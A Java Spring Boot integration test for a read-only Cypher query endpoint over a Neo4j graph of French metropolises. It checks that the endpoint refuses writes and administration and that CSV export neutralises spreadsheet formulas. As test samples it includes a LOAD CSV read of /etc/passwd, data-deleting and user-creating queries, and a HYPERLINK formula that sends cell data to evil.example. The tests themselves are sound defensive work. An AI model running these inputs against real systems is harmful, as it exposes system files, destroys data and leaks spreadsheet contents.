package fr.metrograph.research;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.client.RestClient;

import fr.metrograph.testsupport.Fixtures;
import fr.metrograph.testsupport.GraphQueries;
import fr.metrograph.testsupport.TestHttp;
import fr.metrograph.testsupport.TestNeo4j;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The researchers' Cypher endpoint and query library over HTTP, on the fixture graph of
 * the seeds ({@code fixtures/seeds.cypher}).
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = { "app.ingest.on-startup=false", "app.cypher.timeout=15s" })
class ResearchCypherIT {

	@DynamicPropertySource
	static void neo4j(DynamicPropertyRegistry registry) {
		registry.add("spring.neo4j.uri", TestNeo4j::boltUri);
	}

	@LocalServerPort
	int port;

	RestClient http;

	@BeforeEach
	void loadFixture() {
		this.http = TestHttp.client(this.port);
		Fixtures.load("seeds");
	}

	@Test
	void answersColumnsRowsAndReadableNodesRelationshipsAndPaths() {
		Map<String, Object> body = cypher("MATCH p = (m:Metropolis {id: $id})-[r:MEMBER_OF {year: 2024}]->(g:Group) "
				+ "RETURN m, r, g.id AS groupe, p", Map.of("id", "brest"))
			.getBody();
		assertThat(body.get("columns")).isEqualTo(List.of("m", "r", "groupe", "p"));
		assertThat(body.get("truncated")).isEqualTo(false);
		assertThat(body.get("elapsedMs")).isInstanceOf(Number.class);
		List<?> row = (List<?>) ((List<?>) body.get("rows")).get(0);
		Map<?, ?> node = (Map<?, ?>) row.get(0);
		assertThat(node.get("_type")).isEqualTo("node");
		assertThat(node.get("labels")).isEqualTo(List.of("Metropolis"));
		assertThat(((Map<?, ?>) node.get("properties")).get("shortName")).isEqualTo("Brest");
		Map<?, ?> relationship = (Map<?, ?>) row.get(1);
		assertThat(relationship.get("_type")).isEqualTo("relationship");
		assertThat(relationship.get("type")).isEqualTo("MEMBER_OF");
		assertThat(relationship.get("start")).isEqualTo(node.get("id"));
		assertThat(((Map<?, ?>) relationship.get("properties")).get("source")).isEqualTo("resume-2024");
		assertThat(row.get(2)).isEqualTo("agents");
		assertThat((List<?>) row.get(3)).hasSize(3);
	}

	@ParameterizedTest
	@ValueSource(strings = { "CREATE (:Metropolis {id: 'atlantis'})", "MERGE (m:Metropolis {id: 'atlantis'}) RETURN m",
			"MATCH (m:Metropolis {id: 'brest'}) SET m.name = 'X'", "MATCH (m:Metropolis {id: 'brest'}) DETACH DELETE m",
			"MATCH (c:Conflict) DELETE c", "MATCH (m:Metropolis {id: 'brest'}) REMOVE m.name",
			"MATCH (m:Metropolis {id: 'brest'}) REMOVE m:Metropolis",
			"CREATE INDEX atlantis IF NOT EXISTS FOR (n:Metropolis) ON (n.name)",
			"DROP CONSTRAINT metropolis_id IF EXISTS", "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
			"CALL dbms.components()", "CALL dbms.listConfig() YIELD name RETURN name",
			"CALL db.createLabel('Atlantis')",
			"MATCH (m:Metropolis) CALL (m) { CREATE (:Copy {id: m.id}) } RETURN count(*)",
			"MATCH (m:Metropolis) CALL (m) { MATCH (x) RETURN x LIMIT 1 } IN TRANSACTIONS RETURN count(*)",
			"UNWIND range(1, 3) AS i CALL (i) { CREATE (:N {i: i}) } IN TRANSACTIONS OF 1 ROW",
			"MATCH (m:Metropolis) FOREACH (x IN [1] | SET m.touched = true)",
			"MATCH (m:Metropolis) WITH collect(m) AS ms FOREACH (m IN ms | CREATE (:Copy))",
			"/* RETURN 1 */ CREATE (:Atlantis) // hidden after a comment", "SHOW TRANSACTIONS",
			"SHOW SETTINGS YIELD name RETURN name", "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
			"CREATE USER atlantis SET PASSWORD 'secret123'", "SHOW USERS" })
	void refusesWritesAndAdministrationAndLeavesTheGraphUnchanged(String query) {
		long[] before = GraphQueries.counts();
		ResponseEntity<Map> response = cypher(query, Map.of());
		assertThat(response.getStatusCode().value()).as(query).isEqualTo(400);
		assertThat(response.getHeaders().getContentType().toString()).contains("application/problem+json");
		assertThat(response.getBody().get("type").toString()).as(query + " " + response.getBody())
			.isEqualTo("https://metrograph.fr/problemes/requete-refusee");
		assertThat(response.getBody().get("detail").toString()).as(query).isNotBlank();
		assertThat(GraphQueries.counts()).as(query).isEqualTo(before);
	}

	@Test
	void explainsARefusedWriteInFrenchWithAStableType() {
		ResponseEntity<Map> response = cypher("CREATE (:Metropolis {id: 'atlantis'})", Map.of());
		assertThat(response.getStatusCode().value()).isEqualTo(400);
		assertThat(response.getBody().get("type")).isEqualTo("https://metrograph.fr/problemes/requete-refusee");
		assertThat(response.getBody().get("title")).isEqualTo("Requête refusée");
		assertThat(response.getBody().get("detail"))
			.isEqualTo("La requête modifie le graphe (CREATE) : seules les lectures sont permises.");
		assertThat(response.getBody().get("clause")).isEqualTo("CREATE");
		ResponseEntity<Map> csv = cypher("LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l", Map.of());
		assertThat(csv.getBody().get("motif")).isEqualTo("load_csv");
		ResponseEntity<Map> dbms = cypher("CALL dbms.components()", Map.of());
		assertThat(dbms.getBody().get("detail").toString()).contains("dbms.components");
	}

	@Test
	void allowsListedProceduresAndReadOnlyShowCommands() {
		assertThat(cypher("CALL db.labels() YIELD label RETURN label ORDER BY label", Map.of()).getBody().get("rows"))
			.asList()
			.contains(List.of("Metropolis"));
		assertThat(cypher("SHOW INDEXES YIELD name RETURN name", Map.of()).getStatusCode().value()).isEqualTo(200);
		assertThat(cypher("SHOW CONSTRAINTS", Map.of()).getStatusCode().value()).isEqualTo(200);
	}

	@Test
	void reportsSyntaxErrorsWithNeo4jsMessage() {
		ResponseEntity<Map> response = cypher("MATCH (m:Metropolis RETURN m", Map.of());
		assertThat(response.getStatusCode().value()).isEqualTo(400);
		assertThat(response.getBody().get("type")).isEqualTo("https://metrograph.fr/problemes/requete-invalide");
		assertThat(response.getBody().get("detail").toString()).contains("ligne 1, colonne 21");
		assertThat(response.getBody().get("codeNeo4j").toString()).contains("SyntaxError");
		ResponseEntity<Map> empty = cypher("   ", Map.of());
		assertThat(empty.getBody().get("detail")).isEqualTo("La requête est vide.");
	}

	@Test
	void stopsASlowQueryAtTheTimeout() {
		ResponseEntity<Map> response = cypher(
				"UNWIND range(1, toInteger('100000')) AS a UNWIND range(1, toInteger('100000')) AS b "
						+ "WITH a, b WHERE a * b = -1 RETURN count(*)",
				Map.of());
		assertThat(response.getStatusCode().value()).isEqualTo(400);
		assertThat(response.getBody().get("type")).isEqualTo("https://metrograph.fr/problemes/requete-trop-longue");
		assertThat(response.getBody().get("detail").toString()).contains("délai de 15 secondes");
	}

	@Test
	void truncatesALargeResultAtTheRowCap() {
		Map<String, Object> body = cypher("UNWIND range(1, 20000) AS x RETURN x", Map.of()).getBody();
		assertThat(body.get("truncated")).isEqualTo(true);
		assertThat((List<?>) body.get("rows")).hasSize(10_000);
		Map<String, Object> small = cypher("UNWIND range(1, 10000) AS x RETURN x", Map.of()).getBody();
		assertThat(small.get("truncated")).isEqualTo(false);
	}

	@Test
	void answersCsvWithAHeaderRowAndNodesAsTheirIds() {
		ResponseEntity<String> response = this.http.post()
			.uri("/api/cypher")
			.contentType(MediaType.APPLICATION_JSON)
			.accept(MediaType.parseMediaType("text/csv"))
			.body(Map.of("query",
					"MATCH (m:Metropolis)-[:MEMBER_OF {year: 2024}]->(g) WHERE m.id IN ['brest', 'aix-marseille-provence'] "
							+ "RETURN m, m.name AS nom, g.id AS groupe ORDER BY m.id"))
			.retrieve()
			.toEntity(String.class);
		assertThat(response.getStatusCode().value()).isEqualTo(200);
		assertThat(response.getHeaders().getContentType().toString()).startsWith("text/csv");
		assertThat(response.getBody())
			.isEqualTo("m,nom,groupe\r\n" + "aix-marseille-provence,Métropole d'Aix-Marseille-Provence,agents\r\n"
					+ "brest,Brest Métropole,agents\r\n");
	}

	@Test
	void neutralisesFormulaLeadingCellsInCsvAndWritesTheSpreadsheetDialectOnRequest() {
		ResponseEntity<String> response = this.http.post()
			.uri("/api/cypher?dialecte=tableur")
			.contentType(MediaType.APPLICATION_JSON)
			.accept(MediaType.parseMediaType("text/csv"))
			.body(Map.of("query",
					"RETURN '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")' AS nom, "
							+ "'=1+2' AS role, '+1', '-1+1', '@x', -2.5 AS n"))
			.retrieve()
			.toEntity(String.class);
		assertThat(response.getStatusCode().value()).isEqualTo(200);
		assertThat(response.getBody()).isEqualTo("\uFEFFnom;role;'+1';'-1+1';'@x';n\r\n"
				+ "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\";'=1+2;+1;'-1+1;'@x;-2,5\r\n");
		ResponseEntity<String> saved = this.http.get()
			.uri("/api/queries/membres_par_annee?dialecte=tableur")
			.accept(MediaType.parseMediaType("text/csv"))
			.retrieve()
			.toEntity(String.class);
		assertThat(saved.getBody()).startsWith("\uFEFFannee;groupe;nombre;metropoles\r\n2024;agents;15;");
		ResponseEntity<String> unknown = this.http.get()
			.uri("/api/queries/membres_par_annee?dialecte=excel")
			.accept(MediaType.parseMediaType("text/csv"))
			.retrieve()
			.toEntity(String.class);
		assertThat(unknown.getStatusCode().value()).isEqualTo(400);
		assertThat(unknown.getBody()).contains("Dialecte CSV inconnu");
	}

	@Test
	void answersProblemDetailsEvenWhenCsvWasAsked() {
		ResponseEntity<String> response = this.http.post()
			.uri("/api/cypher")
			.contentType(MediaType.APPLICATION_JSON)
			.accept(MediaType.parseMediaType("text/csv"))
			.body(Map.of("query", "CREATE (n)"))
			.retrieve()
			.toEntity(String.class);
		assertThat(response.getStatusCode().value()).isEqualTo(400);
		assertThat(response.getBody()).contains("seules les lectures sont permises");
	}

	@Test
	void listsTheLibraryWithTitlesParametersAndColumns() {
		List<Map<String, Object>> queries = this.http.get().uri("/api/queries").retrieve().body(List.class);
		assertThat(queries).hasSizeGreaterThanOrEqualTo(12);
		assertThat(queries).allSatisfy((query) -> {
			assertThat(query.get("title").toString()).isNotBlank();
			assertThat(query.get("description").toString()).isNotBlank();
			assertThat((List<?>) query.get("columns")).isNotEmpty();
		});
		Map<String, Object> partners = queries.stream()
			.filter((q) -> q.get("name").equals("metropoles_partenaires"))
			.findFirst()
			.orElseThrow();
		Map<?, ?> parameter = (Map<?, ?>) ((List<?>) partners.get("parameters")).get(0);
		assertThat(parameter.get("name")).isEqualTo("metropole");
		assertThat(parameter.get("type")).isEqualTo("STRING");
		assertThat(parameter.get("defaultValue")).isEqualTo("bordeaux");
	}

	@Test
	@SuppressWarnings("unchecked")
	void runsEverySavedQueryOnTheFixtureAndReturnsTheDeclaredColumns() {
		List<Map<String, Object>> queries = this.http.get().uri("/api/queries").retrieve().body(List.class);
		for (Map<String, Object> query : queries) {
			String name = (String) query.get("name");
			// Only the queries that take it get a person: an unknown parameter is an
			// error.
			boolean takesPerson = ((List<Map<String, Object>>) query.get("parameters")).stream()
				.anyMatch((p) -> "personne".equals(p.get("name")));
			ResponseEntity<Map> response = this.http.get()
				.uri("/api/queries/{name}" + (takesPerson ? "?personne=christelle-scuotto-calvez" : ""), name)
				.retrieve()
				.toEntity(Map.class);
			assertThat(response.getStatusCode().value()).as(name).isEqualTo(200);
			List<String> declared = ((List<Map<String, Object>>) query.get("columns")).stream()
				.map((c) -> (String) c.get("name"))
				.toList();
			assertThat(response.getBody().get("columns")).as(name).isEqualTo(declared);
			assertThat((List<?>) response.getBody().get("rows")).as(name).isNotEmpty();
		}
	}

	@Test
	void countsMembersPerYear() {
		assertThat(rows("/api/queries/membres_par_annee")).containsExactly(
				List.of(2024, "agents", 15,
						List.of("Aix-Marseille-Provence", "Bordeaux", "Brest", "Clermont Auvergne", "Grand Nancy",
								"Grand Paris", "Grenoble-Alpes", "Lille", "Lyon", "Nantes", "Plaine Commune", "Rennes",
								"Rouen Normandie", "Strasbourg", "Toulouse")),
				List.of(2025, "agents", 14,
						List.of("Aix-Marseille-Provence", "Bordeaux", "Clermont Auvergne", "Grand Nancy", "Grand Paris",
								"Grenoble-Alpes", "Lille", "Lyon", "Nantes", "Plaine Commune", "Rennes",
								"Rouen Normandie", "Strasbourg", "Toulouse")));
	}

	@Test
	void showsBrestLeavingTheGroupAndTheDocumentThatSaysItJoined() {
		assertThat(rows("/api/queries/adhesions_d_une_metropole?metropole=brest")).containsExactly(
				List.of(2024, "agents", true, List.of("Résumé annuel du groupe des métropoles participatives")),
				List.of(2025, "agents", false, List.of()));
		List<List<Object>> provenance = rows(
				"/api/queries/provenance_d_une_relation?type=MEMBER_OF&de=brest&vers=agents");
		assertThat(provenance).hasSize(1);
		assertThat(provenance.get(0).get(3)).isEqualTo(2024);
		assertThat(provenance.get(0).get(6).toString()).contains("Brest");
	}

	@Test
	void findsBordeauxsFiveCoPresenters() {
		assertThat(rows("/api/queries/metropoles_partenaires?metropole=bordeaux")).extracting((row) -> row.get(0))
			.containsExactly("Aix-Marseille-Provence", "Clermont Auvergne", "Grenoble-Alpes", "Lille",
					"Plaine Commune");
	}

	@Test
	void countsNineteenPresentAndThreeExcusedAtThe2022Meeting() {
		List<List<Object>> rows = rows("/api/queries/presences_a_une_reunion?reunion=elus-meeting-2022-05-05");
		assertThat(rows).extracting((row) -> row.get(0), (row) -> row.get(1))
			.containsExactly(org.assertj.core.groups.Tuple.tuple("present", 19),
					org.assertj.core.groups.Tuple.tuple("excused", 3));
	}

	@Test
	void findsMetropolisesPresentInBothGroupsAndRecurringThemes() {
		assertThat(rows("/api/queries/presents_aux_deux_groupes")).extracting((row) -> row.get(2))
			.containsExactly("Bordeaux", "Nantes", "Strasbourg");
		assertThat(rows("/api/queries/themes_recurrents")).containsExactly(List.of("CCSPL", List.of(2024, 2025), 1, 1));
	}

	@Test
	void runsASavedQueryAsCsv() {
		ResponseEntity<String> response = this.http.get()
			.uri("/api/queries/membres_par_annee")
			.accept(MediaType.parseMediaType("text/csv"))
			.retrieve()
			.toEntity(String.class);
		assertThat(response.getStatusCode().value()).isEqualTo(200);
		assertThat(response.getBody()).startsWith("annee,groupe,nombre,metropoles\r\n2024,agents,15,");
		assertThat(response.getHeaders().getFirst("Content-Disposition")).contains("membres_par_annee.csv");
	}

	@Test
	void answersUnknownQueriesAndBadParametersWithFrenchProblemDetails() {
		ResponseEntity<Map> unknown = this.http.get().uri("/api/queries/atlantis").retrieve().toEntity(Map.class);
		assertThat(unknown.getStatusCode().value()).isEqualTo(404);
		assertThat(unknown.getBody().get("detail").toString()).contains("Aucune requête enregistrée", "atlantis");
		ResponseEntity<Map> missing = this.http.get()
			.uri("/api/queries/roles_d_une_personne")
			.retrieve()
			.toEntity(Map.class);
		assertThat(missing.getStatusCode().value()).isEqualTo(400);
		assertThat(missing.getBody().get("detail").toString()).contains("« personne »", "obligatoire");
		ResponseEntity<Map> illTyped = this.http.get()
			.uri("/api/queries/reseau_de_copresentation?depuis=deux-mille")
			.retrieve()
			.toEntity(Map.class);
		assertThat(illTyped.getStatusCode().value()).isEqualTo(400);
		assertThat(illTyped.getBody().get("parametre")).isEqualTo("depuis");
		assertThat(illTyped.getBody().get("detail").toString()).contains("nombre entier");
	}

	@Test
	void anUnknownParameterNameIsAnErrorThatNamesTheKnownOnes() {
		ResponseEntity<Map> misspelt = this.http.get()
			.uri("/api/queries/adhesions_d_une_metropole?metropol=brest")
			.retrieve()
			.toEntity(Map.class);
		assertThat(misspelt.getStatusCode().value()).isEqualTo(400);
		assertThat(misspelt.getBody().get("parametre")).isEqualTo("metropol");
		assertThat(misspelt.getBody().get("detail").toString()).contains("Paramètre inconnu « metropol »",
				"« metropole »");
	}

	@Test
	void servesTheQueryPageWithoutExternalResources() {
		for (String path : List.of("/requetes.html", "/requetes.css", "/requetes.js")) {
			ResponseEntity<String> page = this.http.get().uri(path).retrieve().toEntity(String.class);
			assertThat(page.getStatusCode().value()).as(path).isEqualTo(200);
			assertThat(page.getBody()).as(path).doesNotContainPattern("(?i)(https?:)?//[a-z0-9.-]+\\.[a-z]{2,}");
		}
		String html = this.http.get().uri("/requetes.html").retrieve().body(String.class);
		assertThat(html).contains("lang=\"fr\"", "requetes.js", "requetes.css");
	}

	@SuppressWarnings({ "unchecked", "rawtypes" })
	private ResponseEntity<Map> cypher(String query, Map<String, Object> params) {
		return this.http.post()
			.uri("/api/cypher")
			.contentType(MediaType.APPLICATION_JSON)
			.body(Map.of("query", query, "params", params))
			.retrieve()
			.toEntity(Map.class);
	}

	@SuppressWarnings("unchecked")
	private List<List<Object>> rows(String uri) {
		ResponseEntity<Map> response = this.http.get().uri(uri).retrieve().toEntity(Map.class);
		assertThat(response.getStatusCode().value()).as(uri + " " + response.getBody()).isEqualTo(200);
		return (List<List<Object>>) response.getBody().get("rows");
	}

}
